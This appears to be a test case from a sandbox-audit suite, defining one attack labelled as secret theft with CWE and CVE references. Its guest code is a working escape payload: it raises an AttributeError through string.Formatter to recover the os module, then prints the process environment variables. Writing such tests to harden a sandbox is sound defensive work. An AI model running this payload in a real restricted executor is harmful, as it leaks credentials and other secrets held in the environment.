"""Reach a module through the object that an AttributeError carries"""

from executor.audit.attack import Attack, Harm

ATTACK = Attack(
    harm=Harm.SECRET,
    references=("CWE-913", "CVE-2024-47532"),
    guest="""
import string

try:
    string.Formatter().format("{0.no_such}", __import__("os"))
except AttributeError as error:
    print(dict(error.obj.environ))
""",
)
